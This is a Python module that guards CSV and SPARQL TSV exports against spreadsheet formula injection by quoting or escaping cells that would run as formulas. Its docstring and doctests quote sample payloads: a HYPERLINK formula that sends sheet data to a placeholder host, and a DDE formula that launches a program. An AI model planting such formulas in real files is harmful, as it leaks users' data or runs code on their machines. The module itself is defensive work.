"""CSV cells that a spreadsheet opens as text, never as a formula (issue 16).

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-``
or ``@`` (and, after a tab or carriage return, the same); ``=HYPERLINK("http://…?d="&A1)``
in a label sends the sheet's data away when clicked, ``=cmd|' /C calc'!A0`` runs a
program through DDE. OWASP's "CSV Injection" page recommends prefixing such cells with a
single quote, which every spreadsheet reads as "this is text" and hides; this module does
that for every CSV the product writes (network exports, the CSV template and annotated
import sheets, SPARQL results in CSV). One exception, so numbers stay numbers: a cell
that is a plain decimal number (``-1.55``, a longitude) cannot be a formula and is kept.

SPARQL results in TSV write terms in Turtle syntax, so a literal is a quoted cell
(``"=1+1"``) that a spreadsheet unquotes and runs; there the first character is written
as its ``\\uXXXX`` escape instead (:func:`escape_tsv_term`), which every SPARQL client
decodes back to the same literal: TSV stays exact and standard.

The importer reads the same marker back (:func:`read_cell`) and refuses an unmarked
formula (:func:`is_formula`), so a formula neither enters the graph nor comes back out.

>>> neutralise('=HYPERLINK("http://x/?d="&A1)')
'\\'=HYPERLINK("http://x/?d="&A1)'
>>> neutralise("-1.55"), neutralise("-2+3"), neutralise("Lille")
('-1.55', "'-2+3", 'Lille')
>>> read_cell("'=1+1"), read_cell("l'Europe")
('=1+1', "l'Europe")
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import IO, Any

__all__ = [
    "FORMULA_START",
    "SafeWriter",
    "escape_tsv",
    "escape_tsv_term",
    "is_formula",
    "neutralise",
    "neutralise_csv",
    "read_cell",
]

#: What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def is_formula(value: str) -> bool:
    """Would a spreadsheet evaluate ``value``? (It starts with a formula character and
    is not a plain number.)"""
    return value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value)


def neutralise(value: Any) -> Any:
    """``value`` with a leading ``'`` when a spreadsheet would evaluate it; other values
    (numbers, ``None``) unchanged."""
    if isinstance(value, str) and is_formula(value):
        return "'" + value
    return value


def read_cell(value: str) -> str:
    """A cell as written by :func:`neutralise`, back to its text: the quote that marks a
    formula-like text is dropped, any other quote is kept."""
    if value.startswith("'") and is_formula(value[1:]):
        return value[1:]
    return value


def escape_tsv_term(cell: str) -> str:
    """A SPARQL TSV term whose literal would start a formula, with that first character
    escaped (``"=1+1"`` → ``"\\u003D1+1"``); other terms unchanged."""
    if len(cell) > 1 and cell[0] == '"' and cell[1] in "=+-@":
        return f'"\\u{ord(cell[1]):04X}{cell[2:]}'
    return cell


def escape_tsv(body: bytes) -> bytes:
    """SPARQL TSV results with :func:`escape_tsv_term` applied to every cell."""
    if b'\t"' not in body and b'\n"' not in body and not body.startswith(b'"'):
        return body
    lines = body.decode("utf-8").split("\n")
    out = ["\t".join(escape_tsv_term(c) for c in line.split("\t")) for line in lines]
    return "\n".join(out).encode("utf-8")


#: A CSV cell (after a separator, a line end, or an opening quote) that may need a mark.
_RISKY_CELL = re.compile(rb'(?:^|[,\r\n])"?[=+\-@\t\r]')


def neutralise_csv(body: bytes) -> bytes:
    """CSV text (RFC 4180, UTF-8, ``\\r\\n`` line ends, as pyoxigraph writes SPARQL
    results) with :func:`neutralise` applied to every cell; unchanged when no cell starts
    like a formula.

    >>> neutralise_csv(b'x,y\\r\\n=1+1,-2\\r\\n@a,c\\r\\n').decode().split()
    ['x,y', "'=1+1,-2", "'@a,c"]
    """
    if not _RISKY_CELL.search(body):
        return body
    rows = csv.reader(io.StringIO(body.decode("utf-8"), newline=""))
    out = io.StringIO(newline="")
    SafeWriter(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode("utf-8")


class SafeWriter:
    """A :func:`csv.writer` that neutralises every cell it writes.

    :param stream: where the rows go.
    :param options: passed to :func:`csv.writer` (``delimiter``, ``lineterminator``…).
    """

    def __init__(self, stream: IO[str], **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
